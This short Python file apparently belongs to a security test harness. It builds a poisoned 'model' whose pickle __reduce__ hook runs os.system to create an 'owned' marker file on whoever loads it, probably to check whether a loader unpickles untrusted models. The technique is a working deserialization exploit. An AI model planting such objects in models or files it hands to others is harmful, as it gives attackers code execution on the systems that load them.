"""A model that runs a command on whoever loads it."""

from attack import *


class Poison:
    def __reduce__(self):
        return (os.system, (f"touch {TRAPS['folder']}/owned",))


def fit(train, ctx):
    print("poisoned", flush=True)
    return Poison()


def predict(model, rows, ctx):
    return [0.5] * len(rows)
